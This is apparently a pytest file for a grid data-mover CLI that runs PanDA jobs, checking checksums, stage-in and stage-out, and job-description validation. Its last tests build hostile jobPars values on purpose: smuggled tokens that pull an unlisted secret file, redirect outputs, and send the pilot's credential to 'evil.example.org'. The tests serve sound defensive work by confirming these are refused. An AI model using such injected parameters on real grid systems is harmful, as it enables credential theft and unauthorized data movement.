"""A PanDA job end to end on the local grid: the dispatcher's description as a JSON file, the
site's queuedata as the queue config, ``pilot-movers run --panda-job`` from a shell."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path
from typing import Any, Optional

import pytest

from pilot_movers import Job, QueueConfig
from pilot_movers.checksums import Checksum, file_checksum
from pilot_movers.errors import PhaseFailed
from pilot_movers.panda.jobdesc import PandaJob
from tests.panda.conftest import GRIDFTP_RSE, XROOTD_RSE, Site, getjob, queuedata, write_json


def run_cli(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "pilot_movers", *args], capture_output=True, text=True, timeout=300, check=False
    )


def run_panda_job(
    job: Path, queue: Path, workdir: Path, *payload: str, replicas: Optional[Path] = None
) -> tuple[subprocess.CompletedProcess[str], dict[str, Any]]:
    """``pilot-movers run --panda-job`` in ``workdir``: its result and its report."""
    given = ("--replicas", str(replicas)) if replicas is not None else ()
    done = run_cli(
        "run", "--panda-job", str(job), *given, "--queue-config", str(queue), "--workdir", str(workdir), "--", *payload
    )
    return done, json.loads((workdir / "pilot_movers_report.json").read_text())


def seeded_inputs(site: Site) -> list[dict[str, Any]]:
    files = []
    for number, (rse, scope) in enumerate([(XROOTD_RSE, "mc23_13p6TeV"), (GRIDFTP_RSE, "user.jdoe")]):
        lfn = f"EVNT.1{number}.pool.root.1"
        size = 150_000 + number
        files.append(
            {
                "lfn": lfn,
                "scope": scope,
                "rse": rse,
                "size": size,
                "checksum": site.seed(rse, scope, lfn, size, seed=40 + number),
            }
        )
    return files


@pytest.fixture
def site_files(site: Site, tmp_path: Path) -> dict[str, Any]:
    """The site's queuedata (xrdcp to read, gfal to write, as Pilot 3 would) and a job for it."""
    inputs = seeded_inputs(site)
    queue = queuedata(site, {"pr": ["rucio", "xrdcp", "gfal"], "pw": ["xrdcp"]})
    job = getjob(site, inputs, ["HITS.pool.root.1"])
    return {
        "queue": write_json(tmp_path / "queuedata.json", queue),
        "job": write_json(tmp_path / "pandaJobData.json", job),
        "inputs": inputs,
    }


PAYLOAD = (
    "cat EVNT.10.pool.root.1 EVNT.11.pool.root.1 > HITS.pool.root.1 && "
    "tar czf log.4242._000001.job.log.tgz.1 HITS.pool.root.1"
)


def test_a_panda_job_runs_from_the_command_line_with_the_sites_queuedata(site: Site, site_files, tmp_path: Path):
    done = run_cli(
        "run",
        "--panda-job",
        str(site_files["job"]),
        "--queue-config",
        str(site_files["queue"]),
        "--workdir",
        str(tmp_path / "work"),
        "--",
        "sh",
        "-c",
        PAYLOAD,
    )
    assert done.returncode == 0, done.stderr
    assert "job succeeded: 2 file(s) in, 2 out" in done.stdout
    report = json.loads((tmp_path / "work" / "pilot_movers_report.json").read_text())
    assert report["job_id"] == "4242000001"
    assert report["metadata"] == {"source": "panda", "panda_id": 4242000001, "destination_se": "LOCAL_GRID_TEST"}
    stage_in = report["phases"]["stage-in"]["files"]
    assert [(f["mover"], f["verified"], f["expected_checksum"]) for f in stage_in] == [
        ("xrootd", True, str(site_files["inputs"][0]["checksum"])),
        ("gridftp", True, str(site_files["inputs"][1]["checksum"])),
    ], "rucio skipped; xrdcp for root://, gfal for gsiftp://"
    assert stage_in[1]["metadata"] == {
        "kind": "input",
        "scope": "user.jdoe",
        "guid": "A0B1C2D3-0000-0000-0000-000000000001",
        "dataset": "mc23_13p6TeV.801234.EVNT.e1234_tid00001_00",
        "ddmendpoint": GRIDFTP_RSE,
    }
    assert any("copytool 'rucio' skipped" in note for note in report["setup"])
    stage_out = {f["name"]: f for f in report["phases"]["stage-out"]["files"]}
    assert stage_out["log.4242._000001.job.log.tgz.1"]["metadata"]["guid"] == "F0E1D2C3-B4A5-9687-7869-5A4B3C2D1E0F"
    hits = site.path_of(XROOTD_RSE, "mc23_13p6TeV", "HITS.pool.root.1")
    assert file_checksum(hits) == Checksum.parse(stage_out["HITS.pool.root.1"]["checksum"])
    assert hits.stat().st_size == 300_001


def test_a_corrupted_input_is_caught_against_its_catalogue_checksum(site: Site, site_files, tmp_path: Path):
    victim = site_files["inputs"][1]
    replica = site.path_of(victim["rse"], victim["scope"], victim["lfn"])
    with open(replica, "r+b") as handle:  # the replica rotted after Rucio catalogued it
        handle.seek(70_000)
        byte = handle.read(1)
        handle.seek(70_000)
        handle.write(bytes([byte[0] ^ 0x20]))
    done = run_cli(
        "run",
        "--panda-job",
        str(site_files["job"]),
        "--queue-config",
        str(site_files["queue"]),
        "--workdir",
        str(tmp_path / "work"),
        "--",
        "sh",
        "-c",
        PAYLOAD,
    )
    assert done.returncode == 1, done.stderr
    assert "job failed in stage-in: GETADMISMATCH (1171)" in done.stderr
    assert f"the job expects {victim['checksum'].value}" in done.stderr and victim["lfn"] in done.stderr
    report = json.loads((tmp_path / "work" / "pilot_movers_report.json").read_text())
    bad = next(f for f in report["phases"]["stage-in"]["files"] if f["name"] == victim["lfn"])
    assert (bad["status"], bad["error"]["transient"], len(bad["attempts"])) == ("failed", False, 1)
    assert bad["metadata"]["scope"] == "user.jdoe" and report["job_id"] == "4242000001"
    assert not (tmp_path / "work" / victim["lfn"]).exists()
    assert report["payload"] is None, "the payload never ran"


def test_a_job_description_whose_lists_disagree_is_refused_before_anything_exists(site: Site, site_files, tmp_path):
    job = json.loads(site_files["job"].read_text())
    job["fsize"] += ",12"
    write_json(site_files["job"], job)
    done = run_cli(
        "run",
        "--panda-job",
        str(site_files["job"]),
        "--queue-config",
        str(site_files["queue"]),
        "--workdir",
        str(tmp_path / "work"),
        "--",
        "true",
    )
    assert done.returncode == 2
    assert (
        "BADJOBPARAMETERS (9001): PanDA job description: fsize: 3 value(s), but inFiles lists 2 file(s)" in done.stderr
    )
    assert not (tmp_path / "work").exists()
    assert (
        run_cli("run", "--job-params", "", "--replicas", "r.json", "--queue-config", "q", "--", "true").returncode == 2
    )


def test_replicas_the_pilot_resolved_are_used_instead_of_the_storage_rule(site: Site, site_files, tmp_path: Path):
    elsewhere = site.grid.xrootd_dir / "rse" / site.name / "elsewhere.root"
    inputs = site_files["inputs"]
    moved = site.path_of(inputs[0]["rse"], inputs[0]["scope"], inputs[0]["lfn"])
    moved.rename(elsewhere)
    replicas = write_json(
        tmp_path / "replicas.json", {inputs[0]["lfn"]: site.grid.xrootd_url(f"rse/{site.name}/elsewhere.root")}
    )
    done = run_cli(
        "run",
        "--panda-job",
        str(site_files["job"]),
        "--replicas",
        str(replicas),
        "--queue-config",
        str(site_files["queue"]),
        "--workdir",
        str(tmp_path / "work"),
        "--",
        "sh",
        "-c",
        PAYLOAD,
    )
    assert done.returncode == 0, done.stderr
    assert file_checksum(tmp_path / "work" / inputs[0]["lfn"]) == inputs[0]["checksum"]


def test_job_from_panda_is_the_library_call(site: Site, site_files, tmp_path: Path):
    queue = QueueConfig.load(site_files["queue"])
    data = json.loads(site_files["job"].read_text())
    data["checksum"] = "ad:00000001," + data["checksum"].split(",")[1]
    with pytest.raises(PhaseFailed) as caught, Job.from_panda(data, queue, tmp_path / "w") as job:
        job.stage_in()
    assert (caught.value.code, caught.value.file) == (1171, site_files["inputs"][0]["lfn"])
    assert job.job_id == "4242000001" and job.report is not None
    assert job.report.metadata["panda_id"] == 4242000001
    assert PandaJob.from_dict(data).listed_files()[0].checksum == Checksum("adler32", "00000001")


def test_a_users_jobpars_steers_no_data_movement_and_names_no_myproxy_server(site: Site, tmp_path: Path):
    """Issue 19: jobPars is the user's payload command line; tokens appended to it fetched files
    the description never listed, sent files where the user chose, and made the pilot log on to
    a MyProxy server of the user's choosing, all with the pilot's own credential."""
    inputs = seeded_inputs(site)
    secret = site.grid.gridftp_dir / "not-yours" / "secret.dat"
    secret.parent.mkdir(parents=True, exist_ok=True)
    secret.write_bytes(b"the pilot's robot can read this; the user may not")
    grabbed = site.grid.gridftp_url("not-yours/")
    dropped = site.grid.xrootd_url("dropped/")
    hostile = (
        f"--maxEvents=10 dir-in={grabbed} files-in=secret.dat dir-out={dropped} files-out=HITS.pool.root.1 "
        "myproxy-server=evil.example.org:7512 globus-user=someone-else"
    )
    queue = queuedata(site, {"pr": ["rucio", "xrdcp", "gfal"], "pw": ["xrdcp"]})
    job = getjob(site, inputs, ["HITS.pool.root.1"], jobPars=hostile)
    done = run_cli(
        "run",
        "--panda-job",
        str(write_json(tmp_path / "job.json", job)),
        "--queue-config",
        str(write_json(tmp_path / "queue.json", queue)),
        "--workdir",
        str(tmp_path / "work"),
        "--",
        "sh",
        "-c",
        PAYLOAD,
    )
    assert done.returncode == 0, done.stderr
    report = json.loads((tmp_path / "work" / "pilot_movers_report.json").read_text())
    moved_in = [f["name"] for f in report["phases"]["stage-in"]["files"]]
    assert sorted(moved_in) == sorted(i["lfn"] for i in inputs), "only the description's inputs"
    assert not (tmp_path / "work" / "secret.dat").exists()
    assert not (site.grid.xrootd_dir / "dropped").exists(), "nothing went where jobPars said"
    assert report["credentials"] is None or "evil" not in json.dumps(report["credentials"])
    assert any("not honoured" in note and "files-in=secret.dat" in note for note in report["setup"]), report["setup"]


def test_jobpars_honoured_by_the_queue_never_move_data_with_the_pilots_credential(site: Site, tmp_path: Path):
    """With [panda] data_in_jobpars (the 2012 dataPilot style) a user's own parameters move data
    only with the user's proxy from MyProxy: without a MyProxy logon the job is refused."""
    inputs = seeded_inputs(site)
    queue = queuedata(site, {"pr": ["rucio", "xrdcp", "gfal"], "pw": ["xrdcp"]}, panda={"data_in_jobpars": True})
    job = getjob(
        site, inputs, ["HITS.pool.root.1"], jobPars=f"--maxEvents=1 dir-in={site.grid.gridftp_url('x/')} files-in=a"
    )
    done = run_cli(
        "run",
        "--panda-job",
        str(write_json(tmp_path / "job.json", job)),
        "--queue-config",
        str(write_json(tmp_path / "queue.json", queue)),
        "--workdir",
        str(tmp_path / "work"),
        "--",
        "true",
    )
    assert done.returncode == 1, done.stderr
    report = json.loads((tmp_path / "work" / "pilot_movers_report.json").read_text())
    assert report["error"]["name"] == "BADQUEUECONFIGURATION"
    assert "never move data with the pilot's credential" in report["error"]["message"]
    assert report["phases"] == {}, "nothing was moved"


def test_a_myproxy_server_named_by_a_job_is_refused_unless_the_queue_allows_it(tmp_path: Path):
    """A job's myproxy-server= made the pilot send its passphrase, or present its proxy, there."""
    queue = tmp_path / "q.json"
    queue.write_text(json.dumps({"copytool": "local"}))
    params = f"globus-user=mxp myproxy-server=evil.example.org:7512 in-mode=local dir-in={tmp_path} files-in=q.json"
    done = run_cli("run", "--dry-run", "--job-params", params, "--queue-config", str(queue))
    assert done.returncode == 2
    assert "myproxy-server=evil.example.org:7512" in done.stderr and "allowed_servers" in done.stderr
    queue.write_text(json.dumps({"copytool": "local", "myproxy": {"allowed_servers": ["evil.example.org"]}}))
    assert run_cli("run", "--dry-run", "--job-params", params, "--queue-config", str(queue)).returncode == 0
